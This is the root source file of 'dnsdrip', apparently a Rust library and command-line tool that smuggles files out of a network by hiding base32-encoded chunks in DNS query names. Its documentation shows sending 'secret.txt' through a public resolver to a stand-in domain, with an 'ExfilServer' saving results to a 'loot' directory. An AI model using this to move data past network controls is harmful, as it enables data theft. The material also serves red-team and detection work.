//! dnsdrip: reliable chunked data transfer inside DNS query names
//!
//! A client base32-encodes a file, splits it into sequence-numbered,
//! checksummed chunks and sends each chunk as the left-most label of a DNS
//! query. A server answering for the configured domain verifies each chunk,
//! reassembles sessions independently of one another, and writes every
//! completed transfer to disk.
//!
//! ## Quick Start
//!
//! ### As a Library
//!
//! ```rust,no_run
//! use std::sync::Arc;
//! use std::time::Duration;
//! use dnsdrip::{DripConfig, TransferEngine, UdpQuerySender};
//!
//! #[tokio::main]
//! async fn main() -> Result<(), dnsdrip::DripError> {
//!     let config = DripConfig::default();
//!     config.validate()?;
//!
//!     let sender = UdpQuerySender::resolve(&["8.8.8.8".to_string()], 53, Duration::from_secs(2)).await?;
//!     let engine = TransferEngine::new(config, Arc::new(sender), "x.example.com");
//!
//!     let report = engine.send_file("secret.txt".as_ref()).await?;
//!     println!("sent {} bytes as session {}", report.bytes, report.session_id);
//!     Ok(())
//! }
//! ```
//!
//! ### As a Command-Line Tool
//!
//! ```bash
//! # Receive on the authoritative server for x.example.com
//! dnsdrip serve --domain x.example.com --output-dir loot
//!
//! # Send through the local resolver
//! dnsdrip send --file secret.txt --domain x.example.com
//! ```
//!
//! ## Architecture
//!
//! ```text
//! ┌──────────┐  labels   ┌──────────┐  queries   ┌──────────────┐
//! │ Transfer │──────────▶│ Resolver │───────────▶│  ExfilServer │
//! │  Engine  │           └──────────┘            │ (reassembly) │
//! └──────────┘                                   └──────┬───────┘
//!      ▲ rate control                                   │ write
//!      │                                                ▼
//! ┌──────────┐                                   ┌──────────────┐
//! │RateCtrl  │                                   │  output_dir  │
//! └──────────┘                                   └──────────────┘
//! ```

pub mod checksum;
pub mod client;
pub mod codec;
pub mod config;
pub mod dns;
pub mod json_logger;
pub mod label;
pub mod rate;
pub mod reassembly;
pub mod server;
pub mod session;

// Re-export core types
pub use checksum::ChecksumAlgorithm;
pub use client::{CancelHandle, TransferEngine, TransferError, TransferJob, TransferReport};
pub use codec::DecodeError;
pub use config::{ConfigError, DripConfig};
pub use dns::{DnsError, QuerySender, Rcode, UdpQuerySender};
pub use label::{Label, LabelCodec, LabelError, ParseError, ParsedChunk};
pub use rate::{RateController, RateSettings, RetryDecision, RetryState};
pub use reassembly::{FsSink, MemorySink, Outcome, OutputSink, ReassemblyEngine, ReassemblyError};
pub use server::{ExfilServer, QueryBudget, QueryHandler};
pub use session::{Session, SessionState, SessionStore, StoreError};

/// Errors that can occur in dnsdrip
#[derive(Debug, thiserror::Error)]
pub enum DripError {
    /// Invalid configuration
    #[error("Invalid configuration: {0}")]
    Config(#[from] ConfigError),

    /// Base32 decoding failure
    #[error("Decode error: {0}")]
    Decode(#[from] DecodeError),

    /// Malformed inbound label
    #[error("Parse error: {0}")]
    Parse(#[from] ParseError),

    /// Outbound label could not be built
    #[error("Label error: {0}")]
    Label(#[from] LabelError),

    /// DNS transport failure
    #[error("DNS error: {0}")]
    Dns(#[from] DnsError),

    #[error("Session store error: {0}")]
    Store(#[from] StoreError),

    #[error("Reassembly error: {0}")]
    Reassembly(#[from] ReassemblyError),

    /// Client transfer failure
    #[error("Transfer error: {0}")]
    Transfer(#[from] TransferError),

    /// I/O error
    #[error("IO error: {0}")]
    Io(#[from] std::io::Error),
}
